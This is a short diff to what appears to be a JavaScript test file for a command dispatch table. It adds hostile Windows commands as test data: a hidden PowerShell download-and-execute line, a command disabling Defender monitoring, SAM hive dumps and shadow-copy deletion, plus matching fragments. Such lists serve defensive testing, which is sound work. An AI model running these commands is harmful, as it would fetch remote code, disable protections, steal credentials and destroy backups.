@@ -78,6 +78,11 @@ const COMMANDS = [
   "dpkg -i x.deb",
   "sudo apt install ./x.deb",
   "xargs -o sh",
+  `powershell -nop -w hidden -c "iex(New-Object Net.WebClient).DownloadString('http://x/a')"`,
+  "pwsh -c 'Set-MpPreference -DisableRealtimeMonitoring 1'",
+  "cmd /c reg save HKLM\\SAM s.hive",
+  "reg save HKLM\\SAM s.hive",
+  "vssadmin delete shadows /all",
   "ls -la; echo done; cd /srv && make",
 ];
 
@@ -129,6 +134,10 @@ const FRAGMENTS = [
   "--output ",
   "HISTFILE=",
   "sh",
+  "powershell -c ",
+  "cmd /c ",
+  "reg save HKLM\\SAM ",
+  "Set-MpPreference -DisableRealtimeMonitoring ",
 ];
 
 describe("commands dispatch table", () => {
